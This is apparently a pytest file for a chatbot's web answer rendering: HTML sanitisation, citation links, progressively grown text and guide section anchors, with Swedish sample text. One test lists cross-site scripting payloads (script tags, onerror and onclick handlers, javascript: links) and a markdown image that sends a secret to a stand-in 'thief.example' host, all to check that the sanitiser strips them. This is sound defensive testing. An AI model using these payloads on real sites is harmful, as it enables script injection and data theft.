"""Replies become pieces of a page: safe HTML, numbers that lead to sources, text that grows."""

from __future__ import annotations

import pytest

from bot.models import Outcome
from tests.builders import a_need
from tests.web.replies import TURN, a_citation, a_reply, a_suggestion
from web.answers import anchor, answer_html, headings, parts, pieces, safe_html, sources_of, text_of


@pytest.mark.parametrize(
    ("markdown", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![](https://thief.example/?q=secret)", "<img"),
        ("[here](javascript:alert(1))", "href"),
        ("[here](data:text/html,x)", "href"),
        ('<a href="https://x.example" onclick="x()">x</a>', "<a"),
        ("<style>*{display:none}</style>", "<style"),
        ("<hx-partial hx-target='body'>x</hx-partial>", "<hx-partial"),
    ],
)
def test_markdown_can_bring_nothing_that_runs_or_calls_out(markdown: str, never: str) -> None:
    assert never not in safe_html(markdown, under=2)


def test_a_number_leads_to_its_source_and_an_unknown_one_leads_nowhere() -> None:
    html = answer_html(r"Sant. [1] Inte känt. [7] Skrivet \[1\].", a_reply())

    assert html.count("<a ") == 1
    assert f'href="#source-{TURN}-1"' in html
    assert "[7]" in html


def test_the_text_grows_sentence_by_sentence_to_the_whole_text() -> None:
    grown = list(pieces("Ett. Två!\n\n- Tre\n- Fyra"))

    assert grown == ["Ett.", "Ett. Två!", "Ett. Två!\n\n- Tre\n- Fyra"]


def test_the_text_beside_the_services_begins_after_the_first_paragraphs() -> None:
    reply = a_reply(text="Kort.\n\n" + "Längre. " * 20 + "\n\n**Andra vägar:**\n\n- En")

    text = text_of(reply)

    assert text.lead.startswith("Kort.\n\nLängre.")
    assert text.rest == "**Andra vägar:**\n\n- En"


def test_a_text_without_services_stands_in_one_piece() -> None:
    reply = a_reply(outcome=Outcome.NO_MATCH, suggestions=(), text="A.\n\n" * 50)

    assert text_of(reply).rest == ""


def test_every_need_keeps_its_own_services_and_one_without_is_not_lost() -> None:
    reply = a_reply(needs=(a_need("Labb"), a_need("Lån")), suggestions=(a_suggestion(need=0),))

    found = [(part.need.summary, len(part.suggestions)) for part in parts(reply)]

    assert found == [("Labb", 1), ("Lån", 0)]


def test_a_guide_is_cited_at_its_section() -> None:
    citation = a_citation(title="Om prover › Frakt och lån", source_url="/guides/guide-samples")

    (source,) = sources_of(a_reply(citations=(citation,)))

    assert source.is_guide
    assert source.address == "/guides/guide-samples#frakt-och-lan"


def test_a_quote_that_the_text_holds_is_not_said_twice() -> None:
    shown = a_citation(quote="Labbet svarar efter tre veckor.")

    assert [source.shows for source in sources_of(a_reply(citations=(shown,)))] == [""]
    assert [source.shows for source in sources_of(a_reply())] == ["Vad labbet gör"]


def test_the_sections_of_a_guide_can_be_linked_to() -> None:
    html = safe_html("## Frakt\n\n### Is\n\n## Frakt\n\n# Överst", under=1)

    assert headings(html) == [("frakt", "Frakt"), ("frakt-2", "Frakt"), ("overst", "Överst")]
    assert "<h1" not in html
    assert '<h3 id="is">' in html


def test_a_heading_without_letters_still_has_a_name() -> None:
    assert anchor("???") == "section"
